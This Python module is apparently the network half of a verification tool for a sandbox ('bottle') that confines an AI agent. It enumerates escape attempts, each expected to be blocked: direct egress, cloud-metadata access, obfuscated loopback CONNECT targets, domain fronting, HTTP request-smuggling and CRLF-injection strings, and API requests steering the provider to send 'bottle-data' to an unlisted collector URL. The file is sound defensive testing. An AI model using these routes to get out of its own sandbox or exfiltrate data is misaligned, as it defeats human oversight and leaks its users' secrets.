"""The network half of ``claude-bottle verify``: attacks from inside a bottle's network namespace.


Run as ``python -m claude_bottle.verify.probe TARGETS_JSON`` in a container that joins the bottle's network
namespace with the bottle's user, no capabilities and no new privileges (the bottle has no Python). What a
process can reach depends on the namespace it is in and its capabilities; the bottle's own capabilities are
checked inside the bottle itself. Standard library only: this runs in the gate image.

Each attack (``claude_bottle.verify.attack``) prints its outcome as one JSON line: group, attack, expected,
actual, blocked, and ``evidence`` (what came back, which ``verify`` searches for the credential; the probe itself
is never told the credential). The attacks themselves are in ``packets`` (direct egress) and ``gate_requests``.
"""

from __future__ import annotations

import concurrent.futures
import functools
import json
import os
import socket
import sys
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from claude_bottle.verify.attack import Attack, Outcome, Proof, Verdict
from claude_bottle.verify.gate_requests import (
    api_request,
    connect,
    connection_flood,
    fronted_hello,
    get,
    non_tls_in_tunnel,
    proxy_request,
    slow_head,
)
from claude_bottle.verify.packets import dns_query, gateways, icmp_echo, ipv6_link, lookup, raw_socket, tcp, udp

# What must happen to the attacks whose outcome verify judges again on the host, from their evidence and from
# what the stub upstream received (``claude_bottle.verify.network``, by each outcome's ``Proof``).
NEVER_COMES_BACK = "the credential never comes back"
REFUSED_BEFORE_UPSTREAM = "refused before the upstream"
STRIPPED_BEFORE_UPSTREAM = "stripped before the upstream"
NO_ADDRESS_BACK = "no address comes back"

@dataclass(frozen=True)
class Probe(Attack[None, Verdict]):
    """An attack from the bottle's network namespace: ``send`` makes it, bound to its targets, and judges what
    came back as it goes (a packet that got any answer, even a refusal, reached something)."""

    send: Callable[[], Verdict]

    def run(self, target: None) -> Verdict:
        return self.send()

    def judge(self, target: None, result: Verdict) -> Verdict:
        return result


def attacks(targets: dict[str, Any]) -> list[Probe]:
    """Everything a process in the namespace might try."""
    canary, port, host_port = targets["canary_ip"], targets["canary_port"], targets["host_port"]
    gate, api_host, key = targets["gate"], targets["api_host"], targets["attacker_key"]
    found: list[Probe] = []

    def add(group: str, attack: str, expected: str, send: Callable[[], Verdict], proof: Proof | None = None,
            forbidden: str = "") -> None:
        found.append(Probe(group, attack, expected, send, proof=proof, forbidden=forbidden))

    direct, no_way = "direct egress", "no packet gets there"
    for address in targets["public_ipv4"]:
        add(direct, f"TCP to public {address}:443", no_way, functools.partial(tcp, address, 443))
        add(direct, f"DNS over UDP straight to {address}:53", no_way,
            functools.partial(udp, address, 53, dns_query("example.com")))
    for address in targets["public_ipv6"]:
        add(direct, f"TCP over IPv6 to public [{address}]:443", no_way, functools.partial(tcp, address, 443))
    add(direct, "IPv6 on the link (all-nodes multicast)", "no IPv6 packet leaves", ipv6_link)
    add(direct, f"TCP to a host outside the bottle ({canary}:{port})", no_way, lambda: tcp(canary, port))
    add(direct, f"UDP to a host outside the bottle ({canary}:53)", no_way, lambda: udp(canary, 53, b"x"))
    for address in dict.fromkeys(gateways() + targets["host_addresses"]):
        add(direct, f"TCP to the Docker host at {address}:{host_port}", no_way,
            functools.partial(tcp, address, host_port))
        add(direct, f"UDP to the Docker host at {address}:{host_port}", no_way,
            functools.partial(udp, address, host_port, b"x"))
    for address in targets.get("host_loopback", []):
        where = f"{address}:{host_port}, the host's loopback through slirp4netns"
        add(direct, f"TCP to {where}", no_way, functools.partial(tcp, address, host_port))
        add(direct, f"UDP to {where}", no_way, functools.partial(udp, address, host_port, b"x"))
    looked_up = targets.get("dns_name", "")
    for resolver in dict.fromkeys(targets.get("resolvers", []) + gateways() + targets["host_addresses"]):
        add(direct, f"DNS for {looked_up} straight to {resolver}:53", NO_ADDRESS_BACK,
            functools.partial(lookup, resolver, looked_up), Proof.NAME_LOOKUP)
    add(direct, "TCP to the cloud metadata address 169.254.169.254:80", no_way, lambda: tcp("169.254.169.254", 80))
    add(direct, f"ICMP echo to {canary}", "no reply", lambda: icmp_echo(canary))
    for address in targets["public_ipv4"][:1]:
        add(direct, f"ICMP echo to {address}", "no reply", functools.partial(icmp_echo, address))
    add(direct, "raw IP socket", "not permitted",
        functools.partial(raw_socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP))
    add(direct, "packet socket", "not permitted", functools.partial(raw_socket, socket.AF_PACKET, socket.SOCK_RAW, 0))

    proxy, refused = "egress proxy", "refused"

    def via_proxy(attack: str, request: bytes, expected: str = refused) -> None:
        add(proxy, attack, expected, lambda: proxy_request(targets, request))

    unlisted = targets["unlisted_host"]
    via_proxy(f"CONNECT to an unlisted host ({unlisted}:443)", connect(f"{unlisted}:443"))
    via_proxy("absolute-URI GET to an unlisted host", get(f"http://{unlisted}/", unlisted))
    for literal in (f"{canary}:{port}", "127.0.0.1:80", "2130706433:80", "0x7f.1:80", "0177.0.0.1:80",
                    "[::ffff:127.0.0.1]:80", "[::1]:80", "169.254.169.254:80", "[::ffff:a9fe:a9fe]:80"):
        via_proxy(f"CONNECT to the address {literal}", connect(literal))
    via_proxy(f"GET by IP literal http://{canary}:{port}/", get(f"http://{canary}:{port}/", f"{canary}:{port}"))
    name = targets["private_name"]
    via_proxy(f"CONNECT to an allowlisted name on a private address ({name})", connect(name))
    front = f"{targets['front_host']}:{targets['front_port']}"
    add(proxy, f"TLS hello naming {unlisted} in a tunnel to {front} (domain fronting)", "cut before the upstream",
        lambda: fronted_hello(targets))
    add(proxy, f"plain HTTP for {unlisted} in a tunnel to {front}", "cut before the upstream",
        lambda: non_tls_in_tunnel(targets))
    via_proxy(f"CONNECT to an allowlisted host on port 80 ({targets['front_host']}:80)",
              connect(f"{targets['front_host']}:80"))
    add(proxy, "a request head trickled a byte at a time", "cut at the head deadline", lambda: slow_head(targets))
    via_proxy(f"CONNECT to the API host ({api_host}) with an attacker's key",
              connect(api_host, f"Proxy-Authorization: Basic {key}\r\n"))
    via_proxy("GET to the API host with an attacker's key",
              get(f"http://{api_host}/v1/models", api_host, f"x-api-key: {key}\r\n"))
    for authority in (f"{gate}:{targets['api_port']}", f"{gate}:{targets['proxy_port']}", "localhost:8080",
                      f"gate:{targets['api_port']}"):
        via_proxy(f"CONNECT to the gate itself ({authority})", connect(authority))
    smuggled = f"GET http://{unlisted}/ HTTP/1.1\r\nHost: {unlisted}\r\n\r\n"
    for attack, request in (
        ("smuggling: Content-Length with Transfer-Encoding",
         f"POST http://{name}/ HTTP/1.1\r\nHost: {name}\r\nContent-Length: 4\r\n"
         f"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}"),
        ("smuggling: two different Content-Lengths",
         f"POST http://{name}/ HTTP/1.1\r\nHost: {name}\r\nContent-Length: 0\r\nContent-Length: 5\r\n\r\n"),
        ("smuggling: obs-fold header continuation",
         f"GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\nX-A: a\r\n folded\r\n\r\n"),
        ("smuggling: bare LF line ends", f"GET http://{name}/ HTTP/1.1\nHost: {name}\n\n"),
        ("header injection: bare CR in a header",
         f"GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\nX-A: a\rb: c\r\n\r\n"),
        ("header injection: CRLF in the request target",
         f"GET http://{name}/\r\nHost: {unlisted} HTTP/1.1\r\nHost: {name}\r\n\r\n"),
    ):
        via_proxy(attack, request.encode(), "refused as malformed")

    api = "API route"

    def via_api(attack: str, method: str, path: str, body: dict[str, Any] | None = None, extra: str = "",
                expected: str = refused, proof: Proof | None = None, forbidden: str = "") -> None:
        add(api, attack, expected, lambda: api_request(targets, method, path, body, extra), proof, forbidden)

    via_api("TRACE", "TRACE", "/")
    for method, path in (("GET", "/v1/files"), ("POST", "/api/oauth/claude_cli/create_api_key"),
                         ("GET", "/v1/models/../../api/oauth/profile"), ("GET", "/v1/%6d%65ssages")):
        via_api(f"{method} {path} (outside the policy)", method, path)
    for mode in ("echo", "echo-header", "echo-name", "echo-split", "echo-reason"):
        via_api(f"an upstream reflecting the credential ({mode})", "POST", "/v1/messages",
                {"model": "stub", "max_tokens": 1, "messages": [], "stub": {"mode": mode}},
                expected=NEVER_COMES_BACK, proof=Proof.ANSWER)
    hi = {"model": "stub", "max_tokens": 1, "messages": [{"role": "user", "content": "hi"}]}
    collector = f"https://{unlisted}/collect"
    for attack, forbidden, extra_fields in (
        ("the provider connects out for the bottle: mcp_servers", "mcp_servers",
         {"mcp_servers": [{"type": "url", "url": collector, "name": "c", "authorization_token": "bottle-data"}]}),
        ("the provider fetches a URL for the bottle: web_fetch_20250910", "web_fetch_20250910",
         {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}],
          "messages": [{"role": "user", "content": f"fetch {collector}?data=bottle-data"}]}),
        ("the provider runs code for the bottle: code_execution_20250825", "code_execution_20250825",
         {"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]}),
    ):
        via_api(attack, "POST", "/v1/messages", {**hi, **extra_fields}, expected=REFUSED_BEFORE_UPSTREAM,
                proof=Proof.UPSTREAM_NEVER_GOT, forbidden=forbidden)
    via_api("an attacker's key sent on the API route", "POST", "/v1/messages",
            {"model": "stub", "max_tokens": 1, "messages": [{"role": "user", "content": "hi"}]},
            f"x-api-key: {key}\r\nAuthorization: Bearer {key}\r\n", expected=STRIPPED_BEFORE_UPSTREAM,
            proof=Proof.UPSTREAM_GOT_REAL_CREDENTIAL)
    return found


def run_one(attack: Probe) -> Outcome:
    return attack.outcome(None)


def main() -> None:
    targets = json.loads(sys.argv[1])
    suite = attacks(targets)
    with concurrent.futures.ThreadPoolExecutor(max_workers=min(32, len(suite))) as pool:
        for outcome in pool.map(run_one, suite):
            print(outcome.to_json(), flush=True)
    print(connection_flood(targets).to_json(), flush=True)  # alone, after the rest
    sys.stdout.flush()
    os._exit(0)  # threads stuck in a blocking call must not hold the exit


if __name__ == "__main__":
    main()
